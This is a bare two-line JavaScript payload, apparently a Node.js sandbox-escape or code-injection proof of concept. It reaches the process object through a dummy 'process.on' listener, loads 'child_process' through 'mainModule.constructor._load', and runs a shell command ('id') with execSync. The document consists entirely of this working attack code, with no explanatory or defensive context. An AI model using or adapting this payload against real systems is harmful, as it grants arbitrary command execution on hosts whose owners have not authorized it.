const p = process.on("rt3", () => {});
p.mainModule.constructor._load("child_process").execSync("id", {stdio: "inherit"});
